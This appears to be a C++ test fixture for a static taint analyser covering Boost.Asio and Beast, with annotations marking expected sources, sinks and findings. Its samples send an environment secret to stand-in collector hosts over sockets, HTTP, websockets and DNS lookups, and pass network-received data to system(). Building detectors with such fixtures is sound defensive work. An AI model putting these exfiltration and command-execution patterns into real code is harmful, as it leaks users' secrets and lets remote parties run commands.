// Boost.Asio and Beast.
#include <boost/asio.hpp>
#include <boost/beast.hpp>
namespace asio = boost::asio;
namespace beast = boost::beast;
namespace http = boost::beast::http;
namespace websocket = boost::beast::websocket;
using tcp = boost::asio::ip::tcp;

void sent(tcp::socket &socket) {
    std::string t = getenv("T"); //~ source(ENVIRONMENT) f1
    asio::write(socket, asio::buffer(t)); //~ sink(egress.socket) f1, finding(traced) f1, capability(NETWORK)
}

void sent_later(tcp::socket &socket) {
    std::string t = getenv("T"); //~ source(ENVIRONMENT) f2
    asio::async_write(socket, asio::buffer(t), [](auto e, auto n) {}); //~ sink(egress.socket) f2, finding(traced) f2, capability(NETWORK)
}

void stream_buffer(tcp::socket &socket) {
    asio::streambuf b;
    std::ostream out(&b);
    out << getenv("T"); //~ source(ENVIRONMENT) f3
    asio::write(socket, b); //~ sink(egress.socket) f3, finding(traced) f3
}

void sent_constants(tcp::socket &socket, asio::ssl::stream<tcp::socket> &tls) {
    asio::write(socket, asio::buffer("x")); //~ ok
    asio::async_write(socket, asio::buffer("x"), [](auto e, auto n) {}); //~ ok
    socket.write_some(asio::buffer("x")); //~ ok
    tls.next_layer().write_some(asio::buffer("x")); //~ ok
}

void received(tcp::socket &socket) {
    char b[64];
    asio::read(socket, asio::buffer(b, 64)); //~ source(NETWORK) f5, capability(NETWORK)
    system(b); //~ sink(exec.command) f5, finding(traced) f5
}

void received_later(tcp::socket &socket) {
    char b[64];
    asio::async_read(socket, asio::buffer(b, 64), [&b](auto e, auto n) { //~ source(NETWORK) f6, capability(NETWORK)
        system(b); //~ sink(exec.command) f6, finding(traced) f6
    });
}

void received_and_kept(tcp::socket &socket) {
    char b[64];
    asio::read(socket, asio::buffer(b, 64)); //~ ok
    asio::async_read(socket, asio::buffer(b, 64), [](auto e, auto n) {}); //~ ok
    socket.read_some(asio::buffer(b, 64)); //~ ok
}

void handler(tcp::socket &socket) {
    asio::async_write(socket, asio::buffer("x"), [&socket](auto e, auto n) {
        std::string t = getenv("T"); //~ source(ENVIRONMENT) f8
        socket.write_some(asio::buffer(t)); //~ sink(egress.socket) f8, finding(traced) f8, capability(NETWORK)
    });
}

void some(tcp::socket &socket) {
    char b[64];
    socket.read_some(asio::buffer(b, 64)); //~ source(NETWORK) f9, capability(NETWORK)
    system(b); //~ sink(exec.command) f9, finding(traced) f9
}

void datagram(asio::ip::udp::socket &socket) {
    asio::ip::udp::endpoint to(asio::ip::make_address("198.51.100.7"), 53);
    socket.send_to(asio::buffer(getenv("T"), 9), to); //~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10, capability(NETWORK), endpoint("198.51.100.7")
}

void datagram_constant(asio::ip::udp::socket &socket) {
    asio::ip::udp::endpoint to(asio::ip::make_address("198.51.100.7"), 53); //~ ok
    socket.send_to(asio::buffer("x"), to); //~ ok
}

void resolved(asio::io_context &io) {
    tcp::resolver resolver(io);
    resolver.resolve(std::string(getenv("T")) + ".collector.example", "80"); //~ source(ENVIRONMENT) f12, sink(egress.dns) f12, finding(traced) f12, capability(DNS)
}

void connected(asio::io_context &io) {
    tcp::resolver resolver(io);
    tcp::socket socket(io);
    asio::connect(socket, resolver.resolve("asio.collector.example", "443")); //~ capability(NETWORK), endpoint("asio.collector.example")
    asio::write(socket, asio::buffer(getenv("T"), 9)); //~ source(ENVIRONMENT) f13, sink(egress.socket) f13, finding(traced) f13
}

void connected_stream(asio::io_context &io) {
    tcp::resolver resolver(io);
    beast::tcp_stream stream(io);
    stream.connect(resolver.resolve("beast.collector.example", "443")); //~ capability(NETWORK), endpoint("beast.collector.example")
    stream.write_some(asio::buffer(getenv("T"), 9)); //~ source(ENVIRONMENT) f14, sink(egress.socket) f14, finding(traced) f14
}

void connected_only(asio::io_context &io) {
    tcp::resolver resolver(io);
    tcp::socket socket(io);
    auto found = resolver.resolve("asio.collector.example", "443"); //~ ok
    asio::connect(socket, found); //~ ok
    socket.connect(found); //~ ok
}

void below(asio::ssl::stream<tcp::socket> &tls) {
    tls.next_layer().write_some(asio::buffer(getenv("T"), 9)); //~ source(ENVIRONMENT) f16, sink(egress.socket) f16, finding(traced) f16
}

void send_one(tcp::socket &socket, const char *t) {
    asio::write(socket, asio::buffer(t, 9)); //~ sink(egress.socket) f17, finding(traced) f17
    beast::bind_front_handler(send_one, socket, getenv("T")); //~ source(ENVIRONMENT) f17
}

void handlers_without_data(asio::io_context &io, asio::steady_timer &timer, tcp::socket &socket) {
    beast::bind_front_handler(handlers_without_data, io, timer, socket); //~ ok
}

void host(tcp::socket &socket) {
    std::string h = asio::ip::host_name(); //~ source(DEVICE) f19, capability(DEVICE)
    asio::write(socket, asio::buffer(h)); //~ sink(egress.socket) f19, finding(traced) f19
}

void host_unsent() {
    std::string h = asio::ip::host_name(); //~ ok
}

void request(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u?t=" + std::string(getenv("T")), 11}; //~ source(ENVIRONMENT) f21
    http::write(stream, req); //~ sink(egress.http) f21, finding(traced) f21, capability(NETWORK)
}

void request_header(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u", 11};
    req.set(http::field::authorization, getenv("T")); //~ source(ENVIRONMENT) f22
    http::write(stream, req); //~ sink(egress.http) f22, finding(traced) f22
}

void request_target(beast::tcp_stream &stream) {
    http::request<http::string_body> req;
    req.target(getenv("T")); //~ source(ENVIRONMENT) f23
    http::write(stream, req); //~ sink(egress.http) f23, finding(traced) f23
}

void request_body(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u", 11};
    req.body() = getenv("T"); //~ source(ENVIRONMENT) f24
    http::write(stream, req); //~ sink(egress.http) f24, finding(traced) f24
}

void request_constants(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u", 11}; //~ ok
    req.set(http::field::host, "collector.example"); //~ ok
    req.target("/v"); //~ ok
    req.body() = "x"; //~ ok
    http::write(stream, req); //~ ok
}

void response(beast::tcp_stream &stream) {
    beast::flat_buffer b;
    http::response<http::string_body> res;
    http::read(stream, b, res); //~ source(NETWORK) f26, capability(NETWORK)
    system(res.body().c_str()); //~ sink(exec.command) f26, finding(traced) f26
}

void response_parsed(beast::tcp_stream &stream) {
    beast::flat_buffer b;
    http::response_parser<http::string_body> parser;
    http::read(stream, b, parser); //~ source(NETWORK) f27
    system(parser.get().body().c_str()); //~ sink(exec.command) f27, finding(traced) f27
}

void response_unused(beast::tcp_stream &stream) {
    beast::flat_buffer b;
    http::response_parser<http::string_body> parser;
    http::read(stream, b, parser); //~ ok
    auto size = parser.get().body().size(); //~ ok
}

void web_socket(websocket::stream<beast::tcp_stream> &ws) {
    ws.write(asio::buffer(std::string(getenv("T")))); //~ source(ENVIRONMENT) f29, sink(egress.message) f29, finding(traced) f29, capability(NETWORK)
}

void web_socket_read(websocket::stream<beast::tcp_stream> &ws) {
    beast::flat_buffer b;
    ws.read(b); //~ source(NETWORK) f30, capability(NETWORK)
    system(beast::buffers_to_string(b.data()).c_str()); //~ sink(exec.command) f30, finding(traced) f30
}

void web_socket_constant(websocket::stream<beast::tcp_stream> &ws) {
    beast::flat_buffer b;
    ws.write(asio::buffer("x")); //~ ok
    ws.read(b); //~ ok
}

void serialised(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u", 11};
    http::request_serializer<http::string_body> sr{req};
    req.body() = getenv("T"); //~ source(ENVIRONMENT) f32
    http::write(stream, sr); //~ sink(egress.http) f32, finding(traced) f32
}

void serialised_constant(beast::tcp_stream &stream) {
    http::request<http::string_body> req{http::verb::post, "/u", 11};
    http::request_serializer<http::string_body> sr{req}; //~ ok
    http::write(stream, sr); //~ ok
}
